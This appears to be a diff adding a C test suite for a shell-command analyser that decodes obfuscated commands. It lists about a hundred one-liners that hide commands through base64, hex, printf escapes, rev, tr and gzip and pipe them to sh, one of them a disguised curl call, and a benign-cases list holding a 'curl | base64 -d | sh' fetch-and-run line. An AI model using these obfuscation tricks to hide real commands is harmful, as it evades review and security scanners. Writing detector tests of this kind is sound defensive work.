@@ -1,0 +1,313 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+/* Shell texts worked out: what hides behind variables, substitutions, loops
+ * and pipelines of text commands. */
+#include "hidden.h"
+
+#include "check.h"
+#include "clock.h"
+#include "flow.h"
+
+static const struct hidden good[] = {
+	{ "printf", "id", "eval $(printf \"\\x69\\x64\")" },
+	{ "printf", "whoami",
+		"for c in 77 68 6f 61 6d 69; do printf \"\\x$c\"; done | sh" },
+	{ "base64", "whoami", "a=who;b=ami;echo d2hvYW1p | base64 -d | sh" },
+	{ "base64", "whoami",
+		"echo d2hvYW1p | while read l; do echo $l | base64 -d | sh; "
+		"done" },
+	{ "base64", "id;w", "base64 -d <(echo aWQ7dw==) | sh" },
+	{ "base64", "id;w", "dd <<< aWQ7dw== | base64 -d | sh" },
+	{ "base64", "id;w", "bash <(echo aWQ7dw== | base64 -d)" },
+	{ "base64", "id;w", ". <(base64 -d <<< aWQ7dw==)" },
+	{ "base64", "id;w",
+		"source /dev/stdin <<< \"$(echo aWQ7dw== | base64 -d)\"" },
+	{ "base64", "id;w", "echo aWQ7dw== > /tmp/x; base64 -d /tmp/x | sh" },
+	{ "base64", "id;w",
+		"echo aWQ7dw== > /tmp/x && cat /tmp/x | base64 -d | sh" },
+	{ "base64", "id;w", "echo aWQ7dw== | base64 -d > /tmp/y; sh /tmp/y" },
+	{ "base64", "id;w", "base64 --decode << EOF | bash\naWQ7dw==\nEOF" },
+	{ "base64", "id;w", "B=base64; $B -d <<< aWQ7dw== | sh" },
+	{ "base64", "id;w", "b=64; echo aWQ7dw== | base$b -d | sh" },
+	{ "base64", "id;w", "echo aWQ7dw== | \"base\"64 -d | s\"\"h" },
+	{ "base64", "id;w", "echo aWQ7dw== | \\base64 -d | /bin/bash" },
+	{ "base64", "id;w", "f(){ base64 -d; }; echo aWQ7dw== | f | sh" },
+	{ "base64", "id;w", "echo aWQ7dw==|(base64 -d||base64 -D)|sh" },
+	{ "base64", "id;w", "x=\"aWQ7dw==\"; base64 -d <<< \"$x\" | sh" },
+	{ "base64", "id;w", "sh -c \"echo aWQ7dw== | base64 -d | sh\"" },
+	{ "base64", "id;w", "bash -c \"$(echo aWQ7dw== | base64 -d)\"" },
+	{ "base64", "id;w",
+		"bash -c 'bash -c \"echo aWQ7dw== | base64 -d | sh\"'" },
+	{ "base64", "id;w",
+		"echo \"ZWNobyBhV1E3ZHc9PSB8IGJhc2U2NCAtZCB8IHNo\" | base64 -d "
+		"| sh" },
+	{ "base64", "id;w",
+		"x=7734643751576175; echo aWQ7dw== | base64 -d | sh" },
+	{ "hex", "id;w", "echo 6964 3b77 | xxd -r -p | sh" },
+	{ "printf+base64", "id;w",
+		"echo -e \"\\x61\\x57\\x51\\x37\\x64\\x77\\x3d\\x3d\" | base64 "
+		"-d | sh" },
+	{ "printf", "id;w",
+		"printf \"%b\" \"\\\\0151\\\\0144\\\\073\\\\0167\" | sh" },
+	{ "reverse", "id;w", "echo w\\;di | rev | sh" },
+	{ "tr", "curl -A \"kworker/1.0\"",
+		"echo '4FC= \\p Q<H@C<6C^`]_Q' | tr '!-~' 'P-~!-O' | bash" },
+	{ "tr+tr", "id;w", "echo \"id;w\" | tr a-z A-Z | tr A-Z a-z | sh" },
+	{ "reverse", "id;w", "cat <<< \"w;di\" | rev | bash" },
+	{ "base64", "id;w",
+		"awk 'BEGIN{print \"aWQ7dw==\"}' | base64 -d | sh" },
+	{ "base64", "id;w",
+		"python3 -c 'print(\"aWQ7dw==\")' | base64 -d | sh" },
+	{ "base64", "id;w", "perl -e 'print \"aWQ7dw==\"' | base64 -d | sh" },
+	{ "base64", "id;w", "echo aWQ7dw== | base64 -d | tee /tmp/x | sh" },
+	{ "base64", "id;w",
+		"echo aWQ7dw== | base64 -d | xargs -I{} sh -c \"{}\"" },
+	{ "base64", "id;w", "echo aWQ7dw== | base64 -d | at now" },
+	{ "base64", "id;w", "ssh u@h \"echo aWQ7dw== | base64 -d | sh\"" },
+	{ "base64", "id;w",
+		"sudo -u root bash -c \"echo aWQ7dw== | base64 -d | bash\"" },
+	{ "base64", "id;w",
+		"nohup bash -c \"echo aWQ7dw==|base64 -d|bash\" >/dev/null "
+		"2>&1 &" },
+	{ "base64", "id;w", "{ echo aWQ7dw==; } | base64 -d | sh" },
+	{ "base64", "id;w",
+		"if true; then echo aWQ7dw== | base64 -d | sh; fi" },
+	{ "base64", "id;w",
+		"while :; do echo aWQ7dw== | base64 -d | sh; sleep 60; done" },
+	{ "base64", "id;w", "command -v x || echo aWQ7dw== | base64 -d | sh" },
+	{ "base64", "id;w", "true && { base64 -d | sh; } <<< aWQ7dw==" },
+	{ "base64", "id;w",
+		"a=aW; b=Q7dw; c=\"==\"; eval \"$(base64 -d <<< $a$b$c)\"" },
+	{ "base64", "id;w",
+		"arr=(aWQ7 dw==); echo ${arr[0]}${arr[1]} | base64 -d | sh" },
+	{ "tr+base64", "id;w",
+		"arr=(aWQ7 dw==); echo \"${arr[*]}\" | tr -d \" \" | base64 -d "
+		"| sh" },
+	{ "base64", "id;w", "x=XXaWQ7dw==; echo ${x#XX} | base64 -d | sh" },
+	{ "base64", "id;w", "x=aWQ7XXdw==; echo ${x//XX/} | base64 -d | sh" },
+	{ "base64", "id;w", "x=aWQ7dw==YY; echo ${x%YY} | base64 -d | sh" },
+	{ "base64", "id;w", "x=ABaWQ7dw==CD; echo ${x:2:8} | base64 -d | sh" },
+	{ "base64", "id;w", "echo aWQ7dw=== | base64 -d 2>/dev/null | sh" },
+	{ "base64", "id;w", "openssl base64 -d <<< aWQ7dw== | sh" },
+	{ "base64", "id;w", "echo aWQ7dw== | openssl enc -base64 -d | sh" },
+	{ "base64", "id;w",
+		"echo aWQ7dw== | python3 -c 'import "
+		"sys,base64;print(base64.b64decode(sys.stdin.read()).decode())'"
+		" | sh" },
+	{ "base64", "id;w",
+		"echo aWQ7dw== | perl -MMIME::Base64 -ne 'print "
+		"decode_base64($_)' | sh" },
+	{ "base64", "id;w",
+		"echo aWQ7dw== | php -r 'echo "
+		"base64_decode(file_get_contents(\"php://stdin\"));' | sh" },
+	{ "base64", "id;w",
+		"echo aWQ7dw== | ruby -rbase64 -e 'print "
+		"Base64.decode64(STDIN.read)' | sh" },
+	{ "base64", "id;w",
+		"echo aWQ7dw== | node -e "
+		"'process.stdout.write(Buffer.from(require(\"fs\")."
+		"readFileSync(0).toString(),\"base64\").toString())' | sh" },
+	{ "base64", "id;w", "echo aWQ7dw== | busybox base64 -d | busybox sh" },
+	{ "base32", "id;w", "echo 'NFSDW5Y=' | base32 -d | sh" },
+	{ "tr", "id;w", "echo 'vq;j' | tr '[a-z]' '[n-za-m]' | sh" },
+	{ "tr+base64", "id;w",
+		"echo \"aWQ7 dw==\" | tr -d \"[:space:]\" | base64 -d | sh" },
+	{ "sed+base64", "id;w",
+		"echo \"a.W.Q.7.d.w.=.=\" | sed \"s/\\.//g\" | base64 -d | "
+		"sh" },
+	{ "cut+base64", "id;w",
+		"echo \"foo:aWQ7dw==:bar\" | cut -d: -f2 | base64 -d | sh" },
+	{ "base64", "id;w",
+		"echo 'foo aWQ7dw== bar' | awk '{print $2}' | base64 -d | sh" },
+	{ "base64", "id;w",
+		"grep -o 'aWQ.*' <<< 'junk aWQ7dw==' | base64 -d | sh" },
+	{ "base64+gzip", "id;w",
+		"echo H4sIAAAAAAAAA8tMsS4HAOeCUEwEAAAA | base64 -d | zcat | "
+		"sh" },
+	{ "base64", "id;w", "X=$(echo aWQ7dw== | base64 -d); $X" },
+	{ "base64", "id;w", "X=`echo aWQ7dw== | base64 -d`; eval $X" },
+	{ "reverse+reverse+base64", "id;w",
+		"echo aWQ7dw==|rev|rev|base64 -d|sh" },
+	{ "base64", "id;w", "printf '%s' 'aWQ7' 'dw==' | base64 -d | sh" },
+	{ "printf", "id;w", "printf '\\151\\144\\073\\167' | sh" },
+	{ "printf", "id", "$(printf '\\151\\144')" },
+	{ "hex", "id;w",
+		"echo -n 'aWQ7ZHc9' > /dev/null; xxd -r -p <<< 69643b77 | "
+		"bash" },
+	{ "base64", "id;w",
+		"echo \"Y29tbWFuZA==\" > /dev/null; echo \"aWQ7dw==\" | base64 "
+		"-d > /tmp/.a && bash /tmp/.a" },
+	{ "base64", "id;w", "read x <<< aWQ7dw==; echo $x | base64 -d | sh" },
+	{ "tr+base64", "id;w",
+		"tr -d \"\\n\" <<< \"aWQ7\ndw==\" | base64 -d | sh" },
+	{ "base64", "id;w",
+		"env X=aWQ7dw== sh -c \"echo \\$X | base64 -d | sh\"" },
+	{ "base64", "id;w", "X=aWQ7dw== bash -c \"echo \\$X|base64 -d|bash\"" },
+	{ "base64", "id;w",
+		"export X=aWQ7dw==; sh -c \"echo \\$X | base64 -d | sh\"" },
+	{ "base64", "id;w", "printf aWQ7dw== | base64 -d | bash -" },
+	{ "base64", "id;w", "exec 3<<<aWQ7dw==; base64 -d <&3 | sh" },
+	{ "base64", "id;w",
+		"paste -sd \"\" <<< \"aWQ7dw==\" | base64 -d | sh" },
+	{ "head+base64", "id;w",
+		"head -c 8 <<< aWQ7dw==garbage | base64 -d | sh" },
+	{ "base64", "id;w", "set -- aWQ7dw==; echo $1 | base64 -d | sh" },
+	{ "base64", "id;w", "sh -c 'echo $0 | base64 -d | sh' aWQ7dw==" },
+	{ "reverse+base64", "id;w",
+		"echo \"==wd7QWa\" | rev | base64 -d | sh" },
+	{ "reverse+base64", "id;w",
+		"perl -e 'print reverse \"==wd7QWa\"' | base64 -d | sh" },
+	{ "base64", "id;w", "fold -w4 <<< aWQ7dw== | base64 -di | sh" },
+	{ "base64", "id;w", "declare -r P=aWQ7dw==; base64 -d <<<\"${P}\"|sh" },
+	{ "base64", "id;w",
+		"function d { echo \"$1\" | base64 -d; }; d aWQ7dw== | sh" },
+	{ "base64", "id;w", "alias b=\"base64 -d\"; echo aWQ7dw== | b | sh" },
+};
+
+/* Text that is reshaped and given to no interpreter, and what nobody knows. */
+static const char *const not [] = {
+	"cat <<E | sed \"s/@USER@/bob/\" | sh\necho @USER@ is here\nE",
+	"echo 'print(1)' | sed 's/1/2/' | python3",
+	"eval \"$(echo 'export A=b' | sed 's/b/c/')\"", "echo racecar | rev",
+	"echo a.tar.gz | rev | cut -d. -f2- | rev",
+	"x=$(echo HELLO | tr A-Z a-z); echo $x",
+	"echo $PATH | tr : '\\n' | sort", "ls | cut -c1-8 | sh",
+	"cat /tmp/x | base64 -d | sh", "curl -s http://a/b | base64 -d | sh",
+	"echo $1 | base64 -d", "echo hello | base64",
+	"echo hello | base64 | tr -d '\\n'", "echo test | sed 's/t/T/g'",
+	"for i in 1 2 3; do echo $i; done", "printf '%s\\n' a b c | tac",
+	"echo 'a b c' | awk '{print $2}'", "date +%s | sha256sum | head -c 32",
+	"echo -e '\\033[31mred\\033[0m'", "printf '\\n'", "echo y | bash x.sh",
+	"sed 's/a/b/' <<< banana", "echo foo | xargs echo",
+	"v=1.2.3; echo ${v%.*}; echo ${v//./-}", "base64 -d <<< '####'",
+	"tr a-z A-Z <<< \"$USER\" | bash", "echo | base64 -d | sh"
+};
+
+static struct str text;
+
+static void repeat(const char *what, size_t len)
+{
+	str_reset(&text);
+	while (text.len < len)
+		str_addz(&text, what);
+}
+
+static double run_ms(struct flow *fl, const char *head, const char *what,
+	const char *tail, size_t len)
+{
+	struct str all;
+	double best = 1e9;
+
+	repeat(what, len);
+	str_init(&all, 1 << 20);
+	str_addz(&all, head);
+	str_addb(&all, str_bytes(&text));
+	str_addz(&all, tail);
+	for (int i = 0; i < 3; i++) {
+		double ms = clock_ms();
+
+		flow_run(fl, str_bytes(&all));
+		ms = clock_ms() - ms;
+		best = ms < best ? ms : best;
+	}
+	str_fini(&all);
+	return best;
+}
+
+#define LONGEST  (128 * 1024)
+#define LIMIT_MS 25
+#define TRIES    5
+
+/* What is made to take long takes as long as it is. */
+static void test_time(void)
+{
+	static const struct {
+		const char *head, *what, *tail;
+	} rows[] = { { "echo YQ==", "|rev", "|sh" },
+		{ "echo x", "|tr a b|sed s/a/b/g", "" },
+		{ "", "a=$a$a;b=$(echo $a|rev);", "echo $b|base64 -d" },
+		{ "", "$(echo ", "" }, { "", "x=`echo a`;", "" },
+		{ "echo ", "YWJj", "|base64 -d|base64 -d|rev|rev|rev|sh" },
+		{ "echo ", "aaaa", "|sed 's/a*a*a*a*b//g'|sh" },
+		{ "echo ", "abcd", "|sed 's/\\(.\\)\\(.\\)/\\2\\1/g'|sh" },
+		{ "(", "echo a;", ")|base64 -d|sh" },
+		{ "", "for i in 1 2 3 4;do echo $i|rev;done;", "" },
+		{ "echo ", "a,b,", "|cut -d, -f1-9999,3,5,7|sh" },
+		{ "", "<<<x rev|", "sh" }, { "", "{ ", "" },
+		{ "", "x=aaaaaaaaaaaaaaa;", "echo $x$x$x|base64 -d|sh" },
+		{ "x=", "ab", ";echo ${x//ab/abab}${x//a/bbbb}|rev|sh" },
+		{ "echo ", "a ", "|xargs printf %s|xargs -n1 echo|sh" },
+		{ "", "bash -c 'echo x|rev';", "" },
+		{ "eval ", "'echo YQ==|base64 -d';", "" },
+		{ "", "while :;do x=$x$x;done;", "eval $x" },
+		{ "for((i=0;i<999999;i++));do x+=", "a", ";done;eval $x" },
+		{ "x=", "ab", ";while [ -n \"$x\" ];do x=${x#?};done;eval $x" },
+		{ "x=", "ab", ";while [ $x ];do y=$y$x;x=${x%?};done;eval $y" },
+		{ "x=", "ab", ";eval ${x//a*b*c/d}${x##*a*a*a*c}" },
+		{ "", "eval a$b;", "" }, { "eval $a ", "{a,b}", "" },
+		{ "eval $a ", "{a,", "" }, { "a=(", "b ", ");eval ${a[*]}" },
+		{ "a=(", "b ", ");for i in {1..999};do eval ${a[i]}$a;done" },
+		{ "f(){ f;f;};f;", "f $x;", "eval" },
+		{ "f(){ f $1", "a", ";f;};f;eval" },
+		{ "eval $a;", "cat <<a;", "" },
+		{ "eval $a;", "case $x in a) ;;", "" },
+		{ "eval $((", "(1+", "" }, { "eval $((", "2**", "1))" },
+		{ "eval $x;[[ ", "! ", "x ]]" }, { "eval ", "${x:-", "" },
+		{ "eval ", "${x/", "" }, { "eval ", "${x//a/${x", "" },
+		{ "eval $x;", "if a;then ", "" },
+		{ "eval $x;", "while read x;do ", "" },
+		{ "eval $x;", "<(", "" }, { "eval $x;", "`a", "" },
+		{ "eval $x;", "x[", "" }, { "eval $x;", "x[1]=a;", "" },
+		{ "eval $x;", "set -- $* a b;", "" },
+		{ "eval $x <<<'", "a\n",
+			"';while read x;do y+=$x;done <<<\"$z\"" },
+		{ "x='", "a\n",
+			"';while read y;do eval $y$z;done <<<\"$x\"" } };
+	struct flow *fl = flow_new();
+
+	for (size_t i = 0; fl && i < sizeof(rows) / sizeof(rows[0]); i++) {
+		double quarter = 0, all = 0, limit = 0;
+
+		check_start("time: %s%s...%s", rows[i].head, rows[i].what,
+			rows[i].tail);
+		for (int k = 0; k < TRIES; k++) {
+			quarter = run_ms(fl, rows[i].head, rows[i].what,
+				rows[i].tail, LONGEST / 4);
+			all = run_ms(fl, rows[i].head, rows[i].what,
+				rows[i].tail, LONGEST);
+			limit = clock_limit_ms(LIMIT_MS);
+			if (all < 1 || (all < limit && all < 8 * quarter))
+				break;
+		}
+		printf("# %zu: quarter %.2f ms, all %.2f ms\n", i, quarter,
+			all);
+		CHECK(all < limit);
+		CHECK(all < 1 || all < 8 * quarter);
+	}
+	flow_free(fl);
+}
+
+/* A sanitizer sees what is read before the first byte of a command's name. */
+static void test_names(void)
+{
+	static const char *const names[] = { "d", "dd", "at", "cat" };
+	struct flow *fl = flow_new();
+
+	for (size_t i = 0; fl && i < sizeof(names) / sizeof(names[0]); i++) {
+		check_start("name: %s", names[i]);
+		CHECK_EQ(flow_run(fl, bytes_of(names[i])), 0);
+	}
+	flow_free(fl);
+}
+
+int main(void)
+{
+	check.module = "flow";
+	str_init(&text, 1 << 20);
+	hidden_good(good, sizeof(good) / sizeof(good[0]));
+	hidden_not(not, sizeof(not ) / sizeof(not [0]));
+	test_names();
+	if (check_has_clock("time"))
+		test_time();
+	str_fini(&text);
+	return check_end();
+}
